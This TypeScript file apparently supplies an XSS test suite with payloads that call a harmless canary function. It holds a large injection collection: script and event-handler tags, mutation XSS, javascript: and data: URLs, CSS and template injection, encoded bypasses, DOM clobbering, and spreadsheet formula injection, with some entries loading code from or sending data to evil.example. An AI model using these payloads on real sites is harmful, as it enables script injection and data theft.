/** The function that every payload tries to call; malice-test.ts exposes it to the page. */
const call = 'ran()'
const otherHost = 'evil.example'

const handlers = [
  `<img src=x onerror=${call}>`,
  `<img/src="x"/onerror="${call}">`,
  `<IMG SRC=x OnErRoR=${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}//`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${call}><a href=#><text y=20>go</text></a></svg>`,
  `<body onload=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`,
  `<marquee onstart=${call}>`,
  `<p onpointerover=${call} style="position:fixed;inset:0">`,
  `<style onload=${call}></style>`,
  `<link rel=stylesheet href=x onerror=${call}>`,
  `<object data=x onerror=${call}>`,
  `<dialog open onclose=${call}><form method=dialog><button>`,
]
const scripts = [
  `<script>${call}</script>`,
  `<ScRiPt >${call}</sCrIpT>`,
  `<script/x>${call}</script>`,
  `<script type=module>${call}</script>`,
  `<script src=https://${otherHost}/a.js></script>`,
  `<script src=//${otherHost}/a.js></script>`,
  `<script src=data:text/javascript,${call}></script>`,
  `<svg><script>${call}</script></svg>`,
  `<script>${call}`,
  `<<script>${call}//<</script>`,
  `<script\0>${call}</script>`,
  `<template><script>${call}</script></template>`,
]
const frames = [
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<iframe src=//${otherHost}></iframe>`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>">`,
  `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<base href=//${otherHost}/>`,
  `<meta http-equiv=refresh content="0;url=//${otherHost}/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<form action=//${otherHost}/><button autofocus>`,
  `<form><button formaction=javascript:${call}>go`,
  `<a href=javascript:${call} autofocus>go</a>`,
  `<a href=//${otherHost}/ ping=//${otherHost}/ping>go</a>`,
  `<link rel=prefetch href=//${otherHost}/p>`,
  `<link rel=modulepreload href=//${otherHost}/m.js>`,
]
/** Harmless after the first parsing, but not after serialization and a second parsing (mutation XSS). */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  `<x foo="&lt;img src=x onerror=${call}&gt;">`,
  `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  `<svg><desc><![CDATA[</desc><img src=x onerror=${call}>]]>`,
]
const pieces = [...handlers, ...scripts, ...frames, ...mutations]

const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `\u0001javascript:${call}`,
  ` javascript:${call}`,
  `javascript://%0a${call}`,
  `javascript:/*--></title></style></textarea></script>*/${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${call}</script>`).toString('base64')}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  `vbscript:${call}`,
  `blob:https://${otherHost}/1`,
  `filesystem:https://${otherHost}/temporary/1`,
  `view-source:https://${otherHost}/`,
  `//${otherHost}/a`,
  `/\\${otherHost}/a`,
  `/\t/${otherHost}/a`,
  `\\\\${otherHost}\\a`,
  `https:${otherHost}/a`,
  `http://${otherHost}/a`,
  `https://user:word@${otherHost}/a`,
  `ws://${otherHost}/a`,
]
const styles = [
  `red;background:url(//${otherHost}/c)`,
  `');background:url(//${otherHost}/c)`,
  `url(javascript:${call})`,
  `expression(${call})`,
  `@import '//${otherHost}/c.css';`,
  `*{background:url(//${otherHost}/c)}`,
  '\\3c script\\3e',
]
const codes = [
  `'-${call}-'`,
  `"-${call}-"`,
  `\`-${call}-\``,
  `\\'-${call}//`,
  `';${call}//`,
  `"};${call};//`,
  `\u2028${call}//`,
  `\u2029${call}//`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `[[\${${call}}]]`,
  `{"__proto__":{"polluted":"${call}"}}`,
  `");${call}//`,
  `</script><!--${call}`,
]
const disguises = [
  `&lt;img src=x onerror=${call}&gt;`,
  `&#60;img src=x onerror=${call}&#62;`,
  `&amp;lt;img src=x onerror=${call}&amp;gt;`,
  `%3Cimg%20src=x%20onerror=${call}%3E`,
  `%253Cimg%2520src=x%2520onerror=${call}%253E`,
  `\\u003cimg src=x onerror=${call}\\u003e`,
  `＜img src=x onerror=${call}＞`,
  `+ADw-img src=x onerror=${call}+AD4-`,
  `\u202E>${call}=rorreno x=crs gmi<`,
  `<img\u00a0src=x\u00a0onerror=${call}>`,
  `%c0%bcimg src=x onerror=${call}%c0%be`,
  `<img src=x onerror=\uFEFF${call}>`,
]
/** Elements that shadow properties of document and window (DOM clobbering). */
const impostors = [
  '<form id=root><input name=attributes>',
  '<img name=body><img name=getElementById>',
  '<a id=structured-data><a id=structured-data name=firstChild>',
  '<iframe name=history></iframe>',
  '<form name=location><input name=origin></form>',
  '<embed name=crypto>',
]
const names = ['__proto__', 'constructor', 'prototype', 'toString', '__proto__[polluted]', 'hasOwnProperty']
const formulas = [
  `=HYPERLINK("https://${otherHost}/?"&A1)`,
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
]

/** Prefixes that break out of the context of a text. */
const prefixes = ['">', "'>", '</textarea>', '</title>', '</script>', '-->', '</style>', '"\' ']
const attributes = [`autofocus onfocus=${call} x=`, `onmouseover=${call} style=position:fixed;inset:0 x=`]
const breakouts = prefixes.flatMap((way, at) =>
  pieces.filter((_, place) => place % 3 === at % 3).map((piece) => way + piece),
)
const insideTags = ['"', "'", '`', ''].flatMap((quote) =>
  attributes.map((text) => `${quote} ${text}${quote}`),
)

/** All payloads without duplicates. */
export const payloads: readonly string[] = [
  ...new Set([
    ...pieces,
    ...addresses,
    ...styles,
    ...codes,
    ...disguises,
    ...impostors,
    ...names,
    ...formulas,
    ...insideTags,
    ...breakouts,
  ]),
]

/** The payloads that look like an address, for links and redirects. */
export const addressPayloads: readonly string[] = addresses
